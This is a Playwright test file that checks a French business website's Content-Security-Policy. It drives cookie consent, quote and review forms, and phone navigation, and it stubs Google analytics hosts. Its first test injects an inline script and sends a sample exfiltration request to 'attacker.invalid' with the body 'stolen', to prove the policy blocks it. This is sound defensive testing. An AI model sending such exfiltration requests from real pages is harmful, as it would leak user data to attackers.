// The Content-Security-Policy in use (the rule: no CSP violation in any journey). Three journeys —
// accept the cookies, send a quote from the home page, leave a review — run under the real per-page
// policies and must raise no violation and no console error. Violations are kept by the test
// itself, so one raised on a page the journey then leaves (reload, redirect, link) still counts; a
// first test proves the recorder catches what the policy blocks.
import type { BrowserContext } from '@playwright/test'
import { expect, test, waitForHydration, liveForm, tick } from './fixtures'
import { frenchText } from '../../../scripts/french-typography.mjs'
import { recordCsp, settleViolations as settle } from './recorders'

const STACK = `http://127.0.0.1:${process.env.LOCAL_STACK_PORT ?? 54321}`

test.describe('Content-Security-Policy in use', () => {
  test('the recorder works: an injected inline script and a fetch to another origin are blocked, recorded, and kept across a navigation', async ({ page }) => {
    const csp = await recordCsp(page)
    await page.goto('/')
    await waitForHydration(page)

    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.__x = 1'
      document.body.append(script)
    })
    await expect.poll(() => csp.violations.length).toBe(1)
    expect(csp.violations[0]).toMatchObject({ directive: 'script-src-elem', blocked: 'inline', page: '/' })
    expect(await page.evaluate(() => (window as unknown as { __x?: number }).__x)).toBeUndefined()
    expect(await csp.inPage()).toEqual(csp.violations)
    await expect.poll(() => csp.messages.length).toBeGreaterThan(0)

    // connect-src is enforced, not only written: a request to an origin it does not list never leaves.
    const fetched = await page.evaluate(() =>
      fetch('https://attacker.invalid/collect', { method: 'POST', body: 'stolen' }).then(
        () => 'sent',
        () => 'refused',
      ),
    )
    expect(fetched).toBe('refused')
    // Both policies the page is under (its <meta> and the header) list connect-src: each reports it.
    await expect.poll(() => csp.violations.length).toBe(3)
    for (const violation of csp.violations.slice(1)) {
      expect(violation).toMatchObject({ directive: 'connect-src', page: '/' })
      expect(violation.blocked).toMatch(/^https:\/\/attacker\.invalid/)
    }

    // A new document starts a new in-page array; the test's record keeps what the last one raised.
    await page.goto('/contact')
    await waitForHydration(page)
    expect(await csp.inPage()).toEqual([])
    expect(csp.violations).toHaveLength(3)
  })

  test('accept the cookies: the tag loads, measures through every Google host the policy allows, across a link and a reload — no violation, no console error', async ({
    page,
    context,
    consoleErrors,
  }) => {
    const csp = await recordCsp(page)
    const { tagRequests, measurementHosts } = await stubGoogle(context)
    await page.goto('/')
    await waitForHydration(page)
    expect(tagRequests).toEqual([]) // nothing before consent

    await page.getByRole('region', { name: 'Gestion des cookies' }).getByRole('button', { name: 'Accepter' }).click()
    await expect.poll(() => tagRequests.length).toBe(1)
    await expect.poll(() => [...measurementHosts].sort()).toEqual(measurementTargets.map((url) => new URL(url).hostname).sort())

    // A client-side navigation to the reviews (which read the reviews API), then a reload: the
    // stored consent loads the tag again on the new document.
    await page.getByRole('banner').getByRole('link', { name: 'Avis Clients', exact: true }).click()
    await expect(page).toHaveURL(/\/avis-clients$/)
    await expect(page.locator('[data-reviews-list]')).toHaveAttribute('data-reviews-list', 'loaded')
    measurementHosts.clear()
    await page.reload()
    await waitForHydration(page)
    await expect.poll(() => tagRequests.length).toBe(2)
    await expect.poll(() => measurementHosts.size).toBe(measurementTargets.length)
    await expect(page.locator('[data-reviews-list]')).toHaveAttribute('data-reviews-list', 'loaded')

    await settle(page)
    expect(csp.violations).toEqual([])
    expect(csp.messages).toEqual([])
    expect(consoleErrors).toEqual([])
  })

  test('send a quote from the home page: every field, the select and the calendar, sent to the mail API — no violation, no console error', async ({
    page,
    consoleErrors,
  }) => {
    const csp = await recordCsp(page)
    // The mail API is answered here, not by the stack's outbox: forms.spec.ts counts and breaks that
    // outbox while this suite runs beside it. The policy is checked before a request reaches the
    // route (the proof test's refused fetch never leaves the page), so the CSP check is the same.
    const sent: { template_params: Record<string, string> }[] = []
    await page.route(`${STACK}/api/v1.0/email/send`, (route) => {
      const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'content-type' }
      if (route.request().method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors })
      sent.push(route.request().postDataJSON())
      return route.fulfill({ status: 200, contentType: 'text/plain', headers: cors, body: 'OK' })
    })
    await page.goto('/')
    await waitForHydration(page)
    const form = await liveForm(page, 'quick')
    const marker = `Devis CSP ${Date.now()}`
    await form.getByRole('textbox', { name: 'Nom complet', exact: true }).fill(marker)
    await form.getByRole('textbox', { name: 'Adresse email', exact: true }).fill('jeanne.martin@example.fr')
    await form.getByRole('textbox', { name: 'Téléphone', exact: true }).fill('06 12 34 56 78')
    await form.getByRole('textbox', { name: 'Ville ou code postal', exact: true }).fill('34000 Montpellier')
    await form.getByRole('button', { name: /Type de projet/ }).click()
    await page.getByRole('option', { name: 'Expertise fissures', exact: true }).click()
    await form
      .getByRole('group', { name: /Date souhaitée/ })
      .getByRole('spinbutton')
      .first()
      .click()
    await page.keyboard.type('17032031')
    await form.getByRole('textbox', { name: 'Votre message', exact: true }).fill('Des fissures en escalier sur la façade.')
    await tick(form.getByRole('checkbox', { name: /conditions d’utilisation/ }))
    await form.getByRole('button', { name: 'Envoyer ma demande' }).click()
    await expect(page.getByRole('region', { name: 'Notifications' }).getByText('Demande envoyée', { exact: true })).toBeVisible()

    expect(sent).toHaveLength(1)
    expect(sent[0]!.template_params).toMatchObject({ name: marker, form_source: 'Demande de devis rapide', preferred_date: 'lundi 17 mars 2031' })

    await settle(page)
    expect(csp.violations).toEqual([])
    expect(csp.messages).toEqual([])
    expect(consoleErrors).toEqual([])
  })

  test('leave a review: stored through the reviews API, success, redirected to the loaded list — no violation, no console error', async ({
    page,
    consoleErrors,
  }) => {
    const csp = await recordCsp(page)
    await page.goto('/avis-clients/nouveau')
    await waitForHydration(page)
    const form = await liveForm(page, 'review')
    await form.getByRole('textbox', { name: 'Votre nom' }).fill('Jeanne Martin')
    await form.getByRole('textbox', { name: 'Adresse email' }).fill('jeanne.martin@example.fr')
    await form.getByRole('button', { name: /Type de projet/ }).click()
    await page.getByRole('option', { name: 'Expertise fissures', exact: true }).click()
    await form.getByRole('button', { name: /Votre département/ }).click()
    await page.getByRole('option', { name: frenchText('34 - Hérault') }).click()
    await form.getByRole('radio', { name: '4 étoiles', exact: true }).locator('xpath=ancestor::label[1]').click()
    await form.getByRole('textbox', { name: 'Votre avis' }).fill(`Avis CSP ${Date.now()} : rapport clair, expert disponible.`)
    await tick(form.getByRole('checkbox', { name: /conditions d’utilisation/ }))
    const inserted = page.waitForResponse((response) => response.request().method() === 'POST' && response.url().startsWith(`${STACK}/rest/v1/avis`))
    await form.getByRole('button', { name: /Envoyer mon avis/ }).click()
    expect((await inserted).status()).toBe(201)
    await expect(page.getByRole('region', { name: 'Notifications' }).getByText('Avis envoyé avec succès', { exact: true })).toBeVisible()
    await expect(page).toHaveURL(/\/avis-clients$/)
    await expect(page.locator('[data-reviews-list]')).toHaveAttribute('data-reviews-list', 'loaded')

    await settle(page)
    expect(csp.violations).toEqual([])
    expect(csp.messages).toEqual([])
    expect(consoleErrors).toEqual([])
  })
})

test.describe('Content-Security-Policy on a phone @phone', () => {
  test('the menu, the services tabs, the FAQ and the cookie banner — no violation', async ({ page, consoleErrors }) => {
    const csp = await recordCsp(page)
    await page.goto('/services')
    await waitForHydration(page)
    const menuButton = page.getByRole('button', { name: 'Ouvrir le menu' })
    await menuButton.click()
    const drawer = page.getByRole('dialog', { name: 'Menu' })
    await expect(drawer).toBeVisible()
    await page.keyboard.press('Escape')
    await expect(drawer).toBeHidden()
    const tabs = page.getByRole('tablist').getByRole('tab')
    await expect(async () => {
      await tabs.nth(1).click()
      await expect(tabs.nth(1)).toHaveAttribute('aria-selected', 'true', { timeout: 500 })
    }).toPass()
    await page.goto('/avis-clients')
    await waitForHydration(page)
    await page.getByRole('button', { name: /Puis-je modifier ou supprimer mon avis/ }).click()
    await page.getByRole('region', { name: 'Gestion des cookies' }).getByRole('button', { name: 'Refuser' }).click()
    await expect(page.getByRole('region', { name: 'Gestion des cookies' })).toBeHidden()
    await settle(page)
    expect(csp.violations).toEqual([])
    expect(csp.messages).toEqual([])
    expect(consoleErrors).toEqual([])
  })
})

// ---- Google, answered locally -------------------------------------------------------------------

/**
 * One request per host pattern the policy's connect-src allows for measurement (Google's CSP guide
 * for GA4 and Ads): the stub tag sends them as gtag does (fetch, no-cors), so a host the policy
 * stopped allowing would be refused and reported.
 */
const measurementTargets = [
  'https://region1.google-analytics.com/g/collect?v=2&en=page_view',
  'https://region1.analytics.google.com/g/collect?v=2&en=page_view',
  'https://www.googletagmanager.com/a?id=stub',
  'https://googleads.g.doubleclick.net/pagead/viewthroughconversion/000000000/',
  'https://www.google.com/ccm/collect?en=page_view',
]

const stubTagBody = `(function () {
  for (const url of ${JSON.stringify(measurementTargets)}) fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true }).catch(function () {})
})()`

async function stubGoogle(context: BrowserContext) {
  const tagRequests: string[] = []
  const measurementHosts = new Set<string>()
  await context.route(
    /^https:\/\/([a-z0-9-]+\.)*(google-analytics\.com|analytics\.google\.com|googletagmanager\.com|doubleclick\.net|google\.com)\//,
    (route) => {
      const url = new URL(route.request().url())
      if (url.hostname === 'www.googletagmanager.com' && url.pathname === '/gtag/js') {
        tagRequests.push(url.href)
        return route.fulfill({ contentType: 'text/javascript', body: stubTagBody })
      }
      measurementHosts.add(url.hostname)
      return route.fulfill({ status: 204 })
    },
  )
  return { tagRequests, measurementHosts }
}
